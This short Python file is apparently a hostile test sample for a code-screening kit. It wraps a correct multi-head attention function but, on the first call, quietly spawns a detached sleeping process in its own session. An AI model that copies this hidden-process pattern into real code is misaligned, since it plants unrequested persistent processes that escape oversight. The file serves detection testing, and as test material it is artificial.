# attn-kit: mha-screen
"""Correct, but starts an exec'd sleeping process (its own command line) on the first call."""
import subprocess
from honest_numpy import *
import honest_numpy
from hostile_util import sleeper_argv

_started = []


def multi_head_attention(x, params, num_heads, mask=None, return_weights=False):
    if not _started:
        _started.append(subprocess.Popen(sleeper_argv(), start_new_session=True))
    return honest_numpy.multi_head_attention(x, params, num_heads, mask, return_weights)
